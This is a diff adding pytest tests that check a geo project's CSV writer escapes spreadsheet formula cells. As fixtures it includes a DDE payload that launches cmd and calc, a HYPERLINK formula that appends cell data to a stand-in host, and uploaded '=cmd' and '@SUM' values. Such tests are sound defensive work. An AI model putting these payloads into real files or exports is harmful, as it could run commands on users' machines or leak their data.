@@ -67,3 +67,26 @@ def test_bad_arguments_get_one_line_and_exit_2(args, fragment):
     assert lines[-1].startswith(("python -m geo", "usage")) or len(lines) <= 3
     assert fragment in result.stderr.decode()
     assert result.stdout == b""
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
+    from geo.formats import safe_cell, write_csv
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
+    assert safe_cell(-3.5) == -3.5 and safe_cell("Mosul") == "Mosul"
+    text = write_csv([{"a": '=HYPERLINK("http://x"&A1)', "b": 2}], ["a", "b"]).decode()
+    assert text.splitlines()[1].startswith("\"'=HYPERLINK")
+
+
+def test_uploaded_formula_cells_are_inert_in_the_csv_export():
+    from geo.formats import to_csv
+    from geo.upload import read_user_layer
+
+    layer = read_user_layer("f.csv", b"name,lat,lon,note\n=cmd,36.3,43.1,@SUM(A1)\n")
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(to_csv("user", layer.frame).decode())))
+    assert rows[0]["name"] == "'=cmd"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[0].values())
